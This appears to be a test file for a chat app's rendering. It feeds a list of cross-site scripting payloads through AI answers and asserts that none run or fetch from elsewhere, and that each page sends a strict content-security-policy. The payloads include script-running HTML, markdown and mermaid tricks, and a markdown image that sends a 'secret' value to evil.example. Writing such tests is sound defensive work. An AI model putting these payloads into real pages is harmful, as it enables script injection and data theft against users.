// Nothing that an answer brings runs, and no page asks another host for anything.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { lastAnswer, onPage, openAdmin, openChat, say, useWorld, world } from './support/world.mjs';

useWorld('instant');

const ATTEMPTS = [
  '<img src=x onerror="ran=true">',
  '<script>ran=true</script>',
  '<svg onload="ran=true"><a xlink:href="javascript:ran=true">x</a></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.ran=true</script>"></iframe>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/"><input name=q></form>',
  '[link](javascript:ran=true)',
  '[link](data:text/html,<script>ran=true</script>)',
  '<javascript:ran=true>',
  '![picture](https://evil.example/p.png?q=secret)',
  '![picture](javascript:ran=true)',
  '[![both](https://evil.example/b.png)](javascript:ran=true)',
  '$\\href{javascript:ran=true}{x}$',
  '$\\includegraphics{https://evil.example/g.png}$',
  '`</code><script>ran=true</script>`',
  '```html\n</code></pre><script>ran=true</script>\n```',
  '- item\n\n  ```js\n  </code><img src=x onerror=ran=true>\n  ```',
  '| <img src=x onerror=ran=true> |\n|--|\n| <script>ran=true</script> |',
  '```"><img src=x onerror=ran=true>\ncode\n```',
];

test('nothing in an answer runs, and nothing is fetched from elsewhere', () =>
  onPage({}, async (page) => {
    await openChat(page);
    await page.evaluate(() => (globalThis.ran = false));
    for (const attempt of ATTEMPTS) await say(page, `simulate:echo ${attempt}`);
    await page.locator('.katex').first().waitFor();
    assert.equal(await page.evaluate(() => globalThis.ran), false);
    const found = await page.locator('.answer').evaluateAll((answers) =>
      answers.flatMap((answer) =>
        [...answer.querySelectorAll('script, iframe, style, form, input, .prose img, .prose .block svg:not(.katex svg, [data-far] .ask > svg), [onerror], [onload], [srcdoc], a:not([href^="http"], [href^="/"], [href^="#"], [href^="mailto:"])')].map((it) => it.outerHTML),
      ),
    );
    assert.deepEqual(found, []);
    await page.reload();
    await page.locator('.katex').first().waitFor();
    assert.equal(await page.evaluate(() => globalThis.ran), undefined);
  }));

test('a diagram runs no click of its own and leads nowhere', () =>
  onPage({}, async (page) => {
    await openChat(page);
    const text = 'graph TD\n  A["<img src=data:image/png;base64,bad onerror=parent.ran=true>"] --> B[there]\n  click B call alert(1)\n  click A href "javascript:parent.ran=true"';
    await say(page, `simulate:echo \`\`\`mermaid\n${text}\n\`\`\`\n\nend`);
    const frame = lastAnswer(page).locator('iframe').contentFrame();
    await frame.locator('svg .node', { hasText: 'there' }).waitFor();
    const wrong = await frame.locator('body').evaluate((body) => [...body.querySelectorAll('script, [onerror], [onclick], a[href^="javascript:"]')].map((it) => it.outerHTML));
    assert.deepEqual(wrong, []);
    assert.equal(await page.evaluate(() => globalThis.ran), undefined);
  }));

test('what the person writes is text', () =>
  onPage({}, async (page) => {
    await openChat(page);
    const text = '<img src=x onerror=alert(1)> **bold** $x$';
    await say(page, text);
    assert.equal(await page.locator('.question .text').innerText(), text);
    assert.equal(await page.locator('.question .text *').count(), 0);
  }));

test('no page asks another host for anything, and each has its policy', () =>
  onPage({ serviceWorkers: 'allow' }, async (page) => {
    const hosts = new Set();
    page.on('request', (request) => hosts.add(new URL(request.url()).host));
    await openAdmin(page);
    await openChat(page);
    await say(page, 'simulate:markdown');
    await page.locator('.katex').first().waitFor();
    for (const path of ['/', '/temporary', '/archive', '/settings', '/auth/logout', '/admin/accounts', '/admin/usage', '/nowhere']) {
      const reply = await page.goto(world.url + path, { waitUntil: 'networkidle' });
      const policy = reply.headers()['content-security-policy'] ?? '';
      assert.match(policy, /default-src 'none'/, path);
      assert.match(policy, /frame-ancestors 'none'/, path);
      assert.ok(!/script-src[^;]*('unsafe-inline'|\*|https?:)/.test(policy), path);
    }
    assert.deepEqual([...hosts], [new URL(world.url).host]);
  }));
